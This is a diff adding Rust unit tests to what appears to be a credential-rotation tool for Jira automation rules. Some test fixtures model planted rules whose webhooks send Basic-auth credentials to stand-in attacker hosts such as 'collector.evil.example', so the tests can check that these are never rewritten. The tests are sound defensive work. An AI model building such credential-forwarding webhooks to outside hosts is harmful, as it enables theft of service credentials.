@@ -297,6 +297,107 @@ fn unconfirmed_fingerprints(findings: &[Finding], selector: &Selector) -> Vec<St
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::plan::Planner;
+    use crate::rule::Rule;
+    use crate::secret::Credential;
+
+    fn fresh(what: &str) -> Token {
+        Token::new(format!("FAKE-{what}-{}", uuid::Uuid::new_v4().simple()))
+    }
+
+    /// A rule with one web request per (url, token) pair, all as svc@x.io.
+    fn rule(uuid: &str, sends: &[(&str, &Token)]) -> Rule {
+        let components: Vec<serde_json::Value> = sends
+            .iter()
+            .enumerate()
+            .map(|(i, (url, token))| {
+                let basic = Credential::new("svc@x.io", (*token).clone()).basic_value();
+                serde_json::json!({"id": format!("c{i}"), "type": "jira.issue.outgoing.webhook",
+                    "value": {"url": url, "headers": [{"name": "Authorization",
+                        "value": format!("Basic {basic}"), "headerSecure": false}]}})
+            })
+            .collect();
+        let envelope = serde_json::json!({"rule": {"uuid": uuid, "name": uuid,
+            "authorAccountId": format!("author-{uuid}"), "components": components}});
+        Rule::from_envelope(envelope).unwrap()
+    }
+
+    fn plan(rules: Vec<Rule>, selector: &Selector, new: &Token) -> Plan {
+        let mut planner = Planner::new(selector, new);
+        rules.into_iter().for_each(|r| planner.add(r));
+        planner.finish()
+    }
+
+    #[test]
+    fn candidates_group_by_token_with_rules_destinations_and_authors() {
+        let (real, junk, new) = (fresh("real"), fresh("junk"), fresh("new"));
+        let selector = Selector::new("svc@x.io", vec![]);
+        let rules = vec![
+            rule("a", &[("{{baseUrl}}/rest/api/3/issue", &real)]),
+            rule("b", &[("https://acme.atlassian.net/rest", &real)]),
+            rule("evil", &[("https://collector.evil.example/x", &junk)]),
+        ];
+        let found = candidates(&plan(rules, &selector, &new).rewrites);
+        assert_eq!(found.len(), 2);
+        assert_eq!(found[0].identity, real.identity(), "the most used first");
+        assert_eq!(found[0].rules.len(), 2);
+        assert!(found[0].destinations.contains("the site ({{baseUrl}})"));
+        assert!(found[0].destinations.contains("acme.atlassian.net"));
+        assert_eq!(
+            found[1].destinations.iter().next().unwrap(),
+            "collector.evil.example"
+        );
+        assert!(found[1].authors.contains("author-evil"));
+        assert!(!format!("{:?}", found[1]).contains(junk.expose()));
+    }
+
+    #[test]
+    fn only_confirmed_tokens_are_rewritten_and_a_mixed_rule_only_in_its_confirmed_place() {
+        let (real, junk, new) = (fresh("real"), fresh("junk"), fresh("new"));
+        let pending = Selector::new("svc@x.io", vec![]);
+        let rules = vec![
+            rule("real", &[("{{baseUrl}}/x", &real)]),
+            rule("planted", &[("https://evil.example/x", &junk)]),
+            rule(
+                "mixed",
+                &[("{{baseUrl}}/y", &real), ("https://evil.example/y", &junk)],
+            ),
+        ];
+        let mut p = plan(rules, &pending, &new);
+        assert_eq!(
+            p.rewrites.len(),
+            3,
+            "before confirmation every value is a candidate"
+        );
+        let confirmed = pending.with_confirmed([real.identity()].into());
+        keep_confirmed(&mut p, &confirmed, &new);
+        let rewritten: Vec<&str> = p.rewrites.iter().map(Rewrite::uuid).collect();
+        assert_eq!(rewritten, vec!["mixed", "real"]);
+        let mixed = p.rewrites.iter().find(|r| r.uuid() == "mixed").unwrap();
+        assert_eq!(
+            mixed.findings.len(),
+            1,
+            "only the confirmed place of the mixed rule"
+        );
+        let after = mixed.after.body().to_string();
+        assert!(after.contains(&Credential::new("svc@x.io", junk.clone()).basic_value()));
+        let left = p.outcomes.iter().find(|o| o.uuid() == "planted").unwrap();
+        assert!(matches!(
+            &left.kind,
+            Kind::LeftAlone { why: LeftAlone::Unconfirmed { fingerprints } } if fingerprints.len() == 1
+        ));
+        // A re-decision before the write keeps to the confirmed tokens too.
+        assert!(confirmed.is_confirmed() && !pending.is_confirmed());
+        let again = decide(
+            rule("planted", &[("https://evil.example/x", &junk)]),
+            &confirmed,
+            &new,
+        );
+        assert!(
+            matches!(again, Ok(None)),
+            "a planted value is never selected"
+        );
+    }
 
     #[test]
     fn only_token_shaped_values_may_be_tried() {
